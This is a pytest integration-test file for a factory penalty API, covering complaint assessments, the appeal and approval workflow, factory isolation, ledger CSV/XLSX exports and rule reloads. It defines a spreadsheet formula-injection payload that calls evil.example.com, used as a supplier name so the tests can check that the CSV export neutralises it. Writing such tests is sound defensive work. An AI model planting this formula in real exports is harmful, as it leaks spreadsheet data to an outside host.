"""The penalty API through the real app on real databases: assessments of a complaint, the
appeal → decision → approval workflow with its refusals, the monthly ledger as JSON, CSV and
XLSX, closing a month, the rule tables and their reload, and factory isolation.

Determinations are fed through the use case the `investigation.responsibility_determined`
consumer calls, with the app's own units of work and rule book.
"""

from __future__ import annotations

import csv
import io
import shutil
import uuid
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from fastapi import FastAPI

from cqm_shared.policy import PolicyError
from penalty.adapters.rule_book import RuleBook
from penalty.adapters.unit_of_work import SqlPenaltyUnitOfWork
from penalty.domain.terms import AccidentClass, Determination, Finding, Party
from penalty.entrypoints.permissions import approvers_can_act
from penalty.service import handlers
from tests.conftest import POLICY_DIR, BrokerNamespace
from tests.helpers import asgi_client, auth, running_service, unit_of_work

client = asgi_client
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA = '=HYPERLINK("http://evil.example.com/?x="&A1,"click")'
# 2026-11-10 10:00 in Shanghai: the determination counts in the ledger of 2026-11.
DETERMINED = datetime(2026, 11, 10, 2, 0, tzinfo=UTC)


def determination(
    number: str,
    *,
    factory: str = "F01",
    sequence: int = 1,
    at: datetime = DETERMINED,
    loss: str = "10000",
    supplier: str = FORMULA,
) -> Determination:
    """Assembly 50 %, a person of assembly 20 %, painting (not in F01's directory: its roles stay
    unresolved, for HR) 10 %, a supplier 20 %; one 5.2.3.2 finding, and the loss-proportional
    rule 4.3.3.2 (illustrative coefficients) applies by itself."""
    return Determination(
        number=number,
        factory=factory,
        determined_at=at,
        accident_class=AccidentClass.TECHNICAL_GENERAL,
        loss_amount=Decimal(loss),
        parties=(
            Party(kind="department", name="装配车间", share=Decimal("50")),
            Party(kind="person", name="张三", share=Decimal("20"), department="装配车间"),
            Party(kind="department", name="喷涂车间", share=Decimal("10")),
            Party(kind="supplier", name=supplier, share=Decimal("20")),
        ),
        findings=(Finding(code="5.2.3.2", occurrences=1),),
        sequence=sequence,
    )


async def assess(app: FastAPI, d: Determination) -> str:
    """What the consumer does with a determination event; the assessment's id."""
    assessment_id = str(uuid.uuid4())
    uow = unit_of_work(app, SqlPenaltyUnitOfWork)
    await handlers.assess_determination(uow, app.state.rules, assessment_id, d, why="test determination")
    return assessment_id


def money(value: Any) -> Decimal:
    return Decimal(str(value))


def fines(assessment: dict[str, Any]) -> Decimal:
    return sum((money(x["amount"]) for x in assessment["lines"] if x["kind"] == "fine"), Decimal(0))


async def test_appeal_decision_approval_ledger_and_close(database_url: str, broker_ns: BrokerNamespace) -> None:
    number = "F01-2611-0101"
    async with running_service("penalty", database_url, broker_ns) as app:
        first = await assess(app, determination(number))

        # -- the complaint's assessments: line items with rule codes and amounts
        async with client(app, auth("quality_manager", "F01")) as c:
            listed = await c.get("/api/v1/assessments", params={"complaint": number})
            assert listed.status_code == 200, listed.text
            [a] = listed.json()
            one = await c.get(f"/api/v1/assessments/{first}")
            searched = await c.get("/api/v1/assessments", params={"factory": "F01", "period": "2026-11"})
        assert a["id"] == first and a["status"] == "draft" and a["period"] == "2026-11"
        assert a["allowed_actions"] == ["appeal", "approve"] and a["version"] >= 1
        assert a["policy_version"].startswith("2026.1#")
        assert {"5.2.3.2", "4.3.3.2", "charge_back"} <= {x["rule_code"] for x in a["lines"]}
        assert a["illustrative"] is True
        assert a["determination"]["accident_class"] == "technical_general"
        assert money(a["determination"]["loss_amount"]) == 10000
        assert [p["share"] for p in a["determination"]["parties"]] == ["50", "20", "10", "20"]
        [charge_back] = [x for x in a["lines"] if x["kind"] == "charge_back"]
        assert money(charge_back["amount"]) == Decimal("2000.00") and charge_back["payee"]["kind"] == "supplier"
        assert money(a["totals"]["fines"]) == fines(a) > 0
        assert money(a["totals"]["charge_backs"]) == Decimal("2000.00")
        head = next(x for x in a["lines"] if x["rule_code"] == "5.2.3.2" and x["role"] == "department_head")
        assert head["payee"] == {"kind": "person", "id": "u-asm-head", "name": "张主任 / Zhang (assembly head)"}
        assert money(head["amount"]) == 10 and head["basis"] == "1 time(s) × 10"
        assert [d["milestone"] for d in a["deadlines"]] == [
            "monthly_summary",
            "workshop_proposal",
            "production_approval",
        ]
        assert one.status_code == 200 and one.json() == a and one.headers["etag"] == f'"{a["version"]}"'
        assert [x["id"] for x in searched.json()] == [first]

        # -- another factory sees nothing of it
        async with client(app, auth(["quality_manager", "finance"], "F02")) as c:
            assert (await c.get("/api/v1/assessments", params={"complaint": number})).json() == []
            assert (await c.get("/api/v1/assessments")).json() == []
            hidden = await c.get(f"/api/v1/assessments/{first}")
            assert hidden.status_code == 404 and hidden.headers["content-type"] == "application/problem+json"
            assert (await c.get("/api/v1/ledger/F01/2026-11")).status_code == 404
            assert (await c.get("/api/v1/ledger/F01/2026-11", params={"format": "csv"})).status_code == 404
        async with client(app, auth("department_head", "F02")) as c:
            assert (await c.post(f"/api/v1/assessments/{first}/appeal", json={"reason": "x"})).status_code == 404

        # -- appeal; approval waits for the GM's decision
        fine_position = head["position"]
        async with client(app, auth("department_head", "F01")) as c:
            appealed = await c.post(
                f"/api/v1/assessments/{first}/appeal",
                json={"lines": [fine_position], "reason": "the head was on leave"},
                headers={"If-Match": one.headers["etag"]},
            )
        assert appealed.status_code == 200, appealed.text
        body = appealed.json()
        assert body["status"] == "appealed" and body["allowed_actions"] == ["decide_appeal"]
        assert body["appeal"]["lines"] == [fine_position] and body["appeal"]["by"] == "user:tester"
        async with client(app, auth("production_operations", "F01")) as c:
            refused = await c.post(f"/api/v1/assessments/{first}/approval", json={})
            assert refused.status_code == 409 and refused.headers["content-type"] == "application/problem+json"
            assert "appeal" in refused.json()["detail"]
            not_gm = await c.post(f"/api/v1/assessments/{first}/decision", json={"upheld": False, "reason": "no"})
            assert not_gm.status_code == 403 and not_gm.headers["content-type"] == "application/problem+json"
        async with client(app, auth("general_manager", "F01")) as c:
            appealed_yet = await c.post(f"/api/v1/assessments/{first}/approval", json={})
            assert appealed_yet.status_code == 409  # the state refuses first, whoever asks
            stale = await c.post(
                f"/api/v1/assessments/{first}/decision",
                json={
                    "upheld": True,
                    "amounts": {str(fine_position): "5.00"},
                    "reason": "halved",
                    "expected_version": 0,
                },
            )
            assert stale.status_code == 409 and stale.json()["expected_version"] == 0
            disagree = await c.post(
                f"/api/v1/assessments/{first}/decision",
                json={"upheld": True, "amounts": {str(fine_position): "5"}, "reason": "x", "expected_version": 1},
                headers={"If-Match": '"2"'},
            )
            assert disagree.status_code == 422
            too_much = await c.post(
                f"/api/v1/assessments/{first}/decision",
                json={"upheld": True, "amounts": {str(fine_position): "11.00"}, "reason": "more"},
            )
            assert too_much.status_code == 422 and too_much.json()["errors"][0]["field"] == "amounts"
            decided = await c.post(
                f"/api/v1/assessments/{first}/decision",
                json={
                    "upheld": True,
                    "amounts": {str(fine_position): "5.00"},
                    "reason": "halved",
                    "expected_version": body["version"],
                },
            )
        assert decided.status_code == 200, decided.text
        d = decided.json()
        assert d["status"] == "draft" and d["allowed_actions"] == ["approve"]
        assert d["decision"]["upheld"] is True and d["decision"]["amounts"] == {str(fine_position): "5.00"}
        changed = d["lines"][fine_position]
        assert money(changed["amount"]) == 5 and money(changed["original_amount"]) == 10
        assert fines(d) == fines(a) - 5
        async with client(app, auth("department_head", "F01")) as c:
            again = await c.post(f"/api/v1/assessments/{first}/appeal", json={"reason": "once more"})
            assert again.status_code == 409  # the decision is final
        async with client(app, auth("general_manager", "F01")) as c:
            gm_approving = await c.post(f"/api/v1/assessments/{first}/approval", json={})
            assert gm_approving.status_code == 403  # F01's policy gives approval to production operations
        async with client(app, auth("production_operations", "F01")) as c:
            approved = await c.post(f"/api/v1/assessments/{first}/approval", json={"reason": "签准"})
        assert approved.status_code == 200, approved.text
        assert approved.json()["status"] == "approved" and approved.json()["approved_by"] == "user:tester"
        assert approved.json()["allowed_actions"] == []

        # -- the ledger of the month
        async with client(app, auth("finance", "F01")) as c:
            answer = await c.get("/api/v1/ledger/F01/2026-11")
        assert answer.status_code == 200, answer.text
        assert answer.headers[ILLUSTRATIVE] == "4.3.3.2"
        book = answer.json()
        assert (book["factory"], book["period"], book["state"], book["currency"]) == ("F01", "2026-11", "open", "CNY")
        assert book["illustrative_rules"] == ["4.3.3.2"]
        assert "4.3.3.2" in book["warning"]["zh"] and "示例系数" in book["warning"]["zh"]
        assert "ILLUSTRATIVE" in book["warning"]["en"]
        totals = book["totals"]
        assert money(totals["compensation"]) == 10000
        assert money(totals["fines"]) == fines(d)
        assert money(totals["charge_backs"]) == 2000
        assert money(totals["cost_of_poor_quality"]) == 10000 + fines(d) + 2000
        unresolved = [x for x in d["lines"] if x["unresolved"] and x["kind"] in ("fine", "points")]
        assert unresolved and {x["department"] for x in unresolved} == {"喷涂车间"}
        assert book["pending"] == 0 and book["unresolved"] == len(unresolved)
        assert [s["name"] for s in book["suppliers"]] == [FORMULA]
        departments = {x["department"]: x for x in book["departments"]}
        assert set(departments) == {"装配车间", "喷涂车间"}
        assert sum(money(x["fines"]) for x in departments.values()) == fines(d)
        people = {x["id"]: x for x in book["people"]}
        assert money(people["u-asm-head"]["fines"]) > 0 and "张三" in people
        assert len(book["entries"]) == len(d["lines"])
        assert {(e["assessment_id"], e["number"], e["status"], e["adjustment"]) for e in book["entries"]} == {
            (first, number, "approved", False)
        }

        # -- close the month; a closed month takes no change
        async with client(app, auth("production_operations", "F01")) as c:
            assert (await c.post("/api/v1/ledger/F01/2026-11/close", json={})).status_code == 422  # a reason
            closed = await c.post("/api/v1/ledger/F01/2026-11/close", json={"reason": "月结"})
            assert closed.status_code == 200, closed.text
            assert closed.headers[ILLUSTRATIVE] == "4.3.3.2"
            assert closed.json()["state"] == "closed" and closed.json()["closed_by"] == "user:tester"
            assert closed.json()["totals"] == totals
            twice = await c.post("/api/v1/ledger/F01/2026-11/close", json={"reason": "again"})
            assert twice.status_code == 409 and "closed already" in twice.json()["detail"]

        # A newer determination of the case, for the closed month: it lands in the next month
        # as an adjustment, with the reversal of the approved assessment it replaces.
        second = await assess(app, determination(number, sequence=2, loss="5000"))
        async with client(app, auth("hr", "F01")) as c:
            listed = (await c.get("/api/v1/assessments", params={"complaint": number})).json()
            statuses = {x["id"]: (x["status"], x["period"], x["adjustment"]) for x in listed}
            assert statuses == {first: ("superseded", "2026-11", False), second: ("draft", "2026-12", True)}
            unchanged = (await c.get("/api/v1/ledger/F01/2026-11")).json()
            assert unchanged["totals"] == totals and unchanged["state"] == "closed"
            december = (await c.get("/api/v1/ledger/F01/2026-12")).json()
            pending = await c.post("/api/v1/ledger/F01/2026-12/close", json={"reason": "月结"})
        assert pending.status_code == 409 and "not approved" in pending.json()["detail"]
        assert december["pending"] == 1 and december["state"] == "open"
        assert money(december["totals"]["compensation"]) == 5000 - 10000
        new_fines = fines(next(x for x in listed if x["id"] == second))
        assert money(december["totals"]["fines"]) == new_fines - fines(d)
        reversed_lines = [e for e in december["entries"] if e["assessment_id"] == first]
        assert reversed_lines and all(e["adjustment"] for e in december["entries"])
        assert sum(money(e["line"]["amount"]) for e in reversed_lines if e["line"]["kind"] == "fine") == -fines(d)


ILLUSTRATIVE = "x-illustrative-rules"


async def test_the_ledger_as_csv_and_xlsx(sqlite_url: str, broker_ns: BrokerNamespace) -> None:
    async with running_service("penalty", sqlite_url, broker_ns) as app:
        old = await assess(app, determination("F01-2611-0201"))
        async with client(app, auth("production_operations", "F01")) as c:
            await c.post(f"/api/v1/assessments/{old}/approval", json={})
            assert (await c.post("/api/v1/ledger/F01/2026-11/close", json={"reason": "月结"})).status_code == 200
        # December: the replacement of the closed month's assessment (reversal lines: negative amounts)
        await assess(app, determination("F01-2611-0201", sequence=2, loss="4000"))
        async with client(app, auth("finance", "F01")) as c:
            book = (await c.get("/api/v1/ledger/F01/2026-12")).json()
            as_csv = await c.get("/api/v1/ledger/F01/2026-12", params={"format": "csv"})
            by_accept = await c.get("/api/v1/ledger/F01/2026-12", headers={"Accept": "text/csv"})
            as_xlsx = await c.get("/api/v1/ledger/F01/2026-12", headers={"Accept": XLSX})
            json_preferred = await c.get("/api/v1/ledger/F01/2026-12", headers={"Accept": "text/csv;q=0.5, */*"})

    # CSV: UTF-8 with BOM, one row per line item then the totals; no cell runs as a formula
    assert as_csv.status_code == 200 and as_csv.headers["content-type"].startswith("text/csv")
    assert as_csv.headers[ILLUSTRATIVE] == "4.3.3.2"
    assert 'filename="ledger-F01-2026-12.csv"' in as_csv.headers["content-disposition"]
    assert as_csv.content.startswith(b"\xef\xbb\xbf")
    assert by_accept.status_code == 200 and by_accept.content == as_csv.content
    assert json_preferred.headers["content-type"] == "application/json"
    rows = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    assert header[0] == "行类型 row" and "金额 amount" in header and "投诉编号 complaint" in header
    column = {name.split(" ", 1)[1]: i for i, name in enumerate(header)}
    lines = [r for r in body if r[0] == "明细 line"]
    assert len(lines) == len(book["entries"])
    cells = [cell for row in body for cell in row]
    assert "'" + FORMULA in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    amounts = [r[column["amount"]] for r in lines if r[column["amount"]]]
    negative = [x for x in amounts if x.startswith("-")]
    assert negative and all(Decimal(x) < 0 for x in negative)  # numbers stay numbers, no apostrophe
    assert all(r[column["complaint"]] == "F01-2611-0201" and r[column["period"]] == "2026-12" for r in lines)
    totals = {r[column["basis"]]: r for r in body if r[0] == "合计 total"}
    assert Decimal(totals["罚款 fines"][column["amount"]]) == money(book["totals"]["fines"])
    assert Decimal(totals["客诉赔偿额 compensation"][column["amount"]]) == money(book["totals"]["compensation"])
    departments = [r for r in body if r[0] == "部门合计 department total"]
    assert [r[column["department"]] for r in departments] == [x["department"] for x in book["departments"]]
    people = [r for r in body if r[0] == "个人合计 person total"]
    assert {r[column["payee id"]] for r in people} == {x["id"] for x in book["people"]}
    [note] = [r for r in body if r[0] == "注意 note"]
    assert "示例系数" in note[column["note"]] and "ILLUSTRATIVE" in note[column["note"]]

    # XLSX: the same totals, numbers as numbers, ids and periods as text
    assert as_xlsx.status_code == 200 and as_xlsx.headers["content-type"] == XLSX
    assert as_xlsx.headers[ILLUSTRATIVE] == "4.3.3.2"
    workbook = openpyxl.load_workbook(io.BytesIO(as_xlsx.content))
    assert workbook.sheetnames == ["Summary", "Departments", "People", "Lines", "Charge-backs"]
    summary = workbook["Summary"]
    assert "示例系数" in str(summary["A1"].value) and "ILLUSTRATIVE" in str(summary["A2"].value)
    values = {str(r[0]): r[1] for r in summary.iter_rows(min_row=4, values_only=True)}
    assert values["期间 period"] == "2026-12" and values["工厂 factory"] == "F01"
    for label, key in (
        ("客诉赔偿额 compensation", "compensation"),
        ("罚款 fines", "fines"),
        ("供应商转嫁 charge-backs", "charge_backs"),
        ("质量损失成本 cost of poor quality", "cost_of_poor_quality"),
    ):
        assert isinstance(values[label], int | float), label
        assert money(values[label]).quantize(Decimal("0.01")) == money(book["totals"][key]), label
    assert values["未审批考核单 pending assessments"] == book["pending"]

    sheet = workbook["Lines"]
    header_row = [c.value for c in sheet[3]]
    assert header_row[0] == "行类型 row"
    xcol = {str(name).split(" ", 1)[1]: i for i, name in enumerate(header_row)}
    data = list(sheet.iter_rows(min_row=4))
    assert len(data) == len(book["entries"])
    for row in data:
        assert row[xcol["complaint"]].data_type == "s" and row[xcol["complaint"]].value == "F01-2611-0201"
        assert row[xcol["period"]].data_type == "s" and row[xcol["period"]].value == "2026-12"
        assert row[xcol["assessment"]].data_type == "s"
        assert row[xcol["amount"]].data_type == "n" and row[xcol["amount"]].number_format == "#,##0.00"
    xlsx_fines = sum(
        (money(r[xcol["amount"]].value) for r in data if r[xcol["kind"]].value == "fine"),
        Decimal(0),
    )
    assert xlsx_fines.quantize(Decimal("0.01")) == money(book["totals"]["fines"])

    departments_sheet = workbook["Departments"]
    found = {r[0]: r[1] for r in departments_sheet.iter_rows(min_row=4, values_only=True)}
    assert {k: money(v).quantize(Decimal("0.01")) for k, v in found.items()} == {
        x["department"]: money(x["fines"]) for x in book["departments"]
    }
    people_sheet = workbook["People"]
    ids = [r[0] for r in people_sheet.iter_rows(min_row=4)]
    assert all(cell.data_type == "s" for cell in ids)
    assert {cell.value for cell in ids} == {x["id"] for x in book["people"]}
    charge_backs = workbook["Charge-backs"]
    supplier_cells = [r[0] for r in charge_backs.iter_rows(min_row=4) if r[0].value]
    assert supplier_cells and all(c.value == FORMULA and c.data_type == "s" for c in supplier_cells)


async def test_rules_of_a_factory_and_factory_isolation(sqlite_url: str, broker_ns: BrokerNamespace) -> None:
    async with running_service("penalty", sqlite_url, broker_ns) as app:
        async with client(app, auth("auditor", "F01")) as c:
            answer = await c.get("/api/v1/rules/F01")
            hidden = await c.get("/api/v1/rules/F02")
        async with client(app, auth("admin", "*")) as c:
            unknown = await c.get("/api/v1/rules/F09")
            unknown_ledger = await c.get("/api/v1/ledger/F09/2026-11")
            not_a_read = await c.get("/api/v1/rules/reload")  # the reload route, not a factory "reload"
        async with client(app, auth("general_manager", "F02")) as c:
            f02 = await c.get("/api/v1/ledger/F02/2026-11")
            f01 = await c.get("/api/v1/ledger/F01/2026-11")
    assert answer.status_code == 200, answer.text
    rules = answer.json()
    assert rules["factory"] == "F01" and len(rules["digest"]) == 12
    assert rules["in_force"] == "2026.1" and [v["version"] for v in rules["versions"]] == ["2026.1"]
    assert rules["versions"][0]["in_force"] is True
    table = rules["versions"][0]["rules"]
    assert table["5.2.3.2"]["kind"] == "per_occurrence" and table["5.2.3.2"]["source"] == "seed 000 §5.2.3.2"
    assert rules["illustrative_rules"] == ["4.3.3.2"] and "ILLUSTRATIVE" in rules["warning"]["en"]
    assert rules["approvers"] == {"approve": "production_operations", "decide_appeal": "general_manager"}
    assert rules["organisation"]["general_manager"] == {"id": "u-gm-f01", "name": "王总 / GM Wang"}
    assert rules["monthly_cycle"]["approval"]["day"] == 20
    assert hidden.status_code == 404 and hidden.headers["content-type"] == "application/problem+json"
    assert unknown.status_code == 404 and unknown_ledger.status_code == 404
    assert not_a_read.status_code == 405
    assert not_a_read.headers["allow"] == "POST"  # RFC 9110: a 405 names the methods that work
    assert f02.status_code == 200 and f02.json()["entries"] == [] and f02.json()["state"] == "open"
    assert f01.status_code == 404


def break_amount(policy_dir: Path, amount: str) -> int:
    """Set rule 5.2.4's amount in F01.yaml; the 1-based line the amount is on."""
    path = policy_dir / "F01.yaml"
    text = path.read_text(encoding="utf-8").split("\n# override\n")[0]
    override = (
        '\n# override\npenalty:\n  rule_tables:\n    "2026.1":\n      rules:\n        "5.2.4":\n'
        f"          payers:\n            - {{role: department_head, amount: {amount}}}\n"
    )
    path.write_text(text + override, encoding="utf-8")
    return (text + override).splitlines().index(f"            - {{role: department_head, amount: {amount}}}") + 1


async def test_reload_keeps_the_old_tables_when_a_file_is_invalid(
    sqlite_url: str, broker_ns: BrokerNamespace, tmp_path: Path
) -> None:
    policies = tmp_path / "policies"
    shutil.copytree(POLICY_DIR, policies)
    async with running_service("penalty", sqlite_url, broker_ns, policy_dir=policies) as app:
        async with client(app, auth("admin", "*")) as c:
            before = (await c.get("/api/v1/rules/F01")).json()
            line = break_amount(policies, "-5")
            broken = await c.post("/api/v1/rules/reload")
            kept = (await c.get("/api/v1/rules/F01")).json()
            break_amount(policies, "60")
            reloaded = await c.post("/api/v1/rules/reload")
            after = (await c.get("/api/v1/rules/F01")).json()
        async with client(app, auth("quality_manager", "*")) as c:
            assert (await c.post("/api/v1/rules/reload")).status_code == 403

    assert broken.status_code == 422 and broken.headers["content-type"] == "application/problem+json"
    detail = broken.json()["detail"]
    assert f"{policies / 'F01.yaml'}:{line}" in detail and "5.2.4" in detail
    assert any(f"F01.yaml:{line}" in e["message"] for e in broken.json()["errors"])
    assert kept == before
    assert before["versions"][0]["rules"]["5.2.4"]["payers"][0]["amount"] == "50"
    assert reloaded.status_code == 200, reloaded.text
    digests = {f["factory"]: f["digest"] for f in reloaded.json()["factories"]}
    assert digests["F01"] == after["digest"] != before["digest"]
    assert after["versions"][0]["rules"]["5.2.4"]["payers"][0]["amount"] == "60"


async def test_the_factorys_policy_names_who_approves(
    sqlite_url: str, broker_ns: BrokerNamespace, tmp_path: Path
) -> None:
    """A role the matrix admits but the factory's policy does not name is refused with 403; a
    policy naming a role that could never act stops the service at load, naming the file."""
    policies = tmp_path / "policies"
    shutil.copytree(POLICY_DIR, policies)
    with (policies / "F01.yaml").open("a", encoding="utf-8") as f:
        f.write("penalty:\n  approvers: {approve: general_manager, decide_appeal: general_manager}\n")
    async with running_service("penalty", sqlite_url, broker_ns, policy_dir=policies) as app:
        assessment_id = await assess(app, determination("F01-2611-0301"))
        async with client(app, auth("production_operations", "F01")) as c:
            refused = await c.post(f"/api/v1/assessments/{assessment_id}/approval")
        async with client(app, auth("general_manager", "F01")) as c:
            approved = await c.post(f"/api/v1/assessments/{assessment_id}/approval")
    assert refused.status_code == 403 and refused.headers["content-type"] == "application/problem+json"
    assert "general_manager" in refused.json()["detail"]
    assert approved.status_code == 200 and approved.json()["status"] == "approved"

    with (policies / "F02.yaml").open("a", encoding="utf-8") as f:
        f.write("penalty:\n  approvers: {approve: hr}\n")
    with pytest.raises(PolicyError, match=r"F02\.yaml: approvers.approve = 'hr' lacks assessments:approve"):
        RuleBook(policies, check=approvers_can_act)
